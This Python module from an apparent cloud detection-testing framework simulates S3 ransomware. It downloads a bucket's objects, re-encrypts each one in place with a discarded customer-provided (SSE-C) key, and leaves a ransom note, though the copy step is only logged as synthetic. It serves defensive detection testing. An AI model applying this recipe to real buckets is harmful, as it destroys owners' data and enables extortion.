"""S3 ransomware through encryption with a key only the intruder holds (SSE-C)."""

from __future__ import annotations

import secrets
from typing import Any

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, technique
from cloudsoc.simulate.techniques.impact._ransom_bucket import (
    NOTE,
    NOTE_KEY,
    RansomBucketTechnique,
    download_all,
)


@technique
class S3RansomwareClientSideEncryption(RansomBucketTechnique):
    title = "S3 ransomware through client-side encryption"
    attack = ("T1486",)
    expects = ("s3_objects_encrypted_with_customer_key",)
    description = (
        "Downloads every object of a bucket, then copies each object onto itself encrypted with a "
        "customer-provided key (SSE-C) that only the intruder holds, and leaves a ransom note."
    )
    synthetic = ("s3:CopyObject",)

    def detonate(self, ctx: Ctx, state: Json) -> None:
        session = ctx.attacker()
        s3 = client("s3", session=session)
        bucket = state["bucket"]
        download_all(s3, bucket)
        key = secrets.token_hex(16)  # 32 bytes: an AES-256 key, never written anywhere
        for page in s3.get_paginator("list_objects_v2").paginate(Bucket=bucket):
            for obj in page.get("Contents", []):
                _encrypt_in_place(ctx, session, bucket, obj["Key"], key)
        s3.put_object(Bucket=bucket, Key=NOTE_KEY, Body=NOTE)


def _encrypt_in_place(ctx: Ctx, session: Any, bucket: str, key: str, secret: str) -> None:
    params = {"Bucket": bucket, "Key": key, "CopySource": f"{bucket}/{key}", "SSECustomerAlgorithm": "AES256",
              "SSECustomerKey": secret}  # fmt: skip
    # Written, not made: the sandbox refuses a copy onto itself whose only change is SSE-C (S3 accepts
    # it), and a real attempt would leave that refusal in the trail.
    ctx.synthetic(session, "s3", "CopyObject", params)
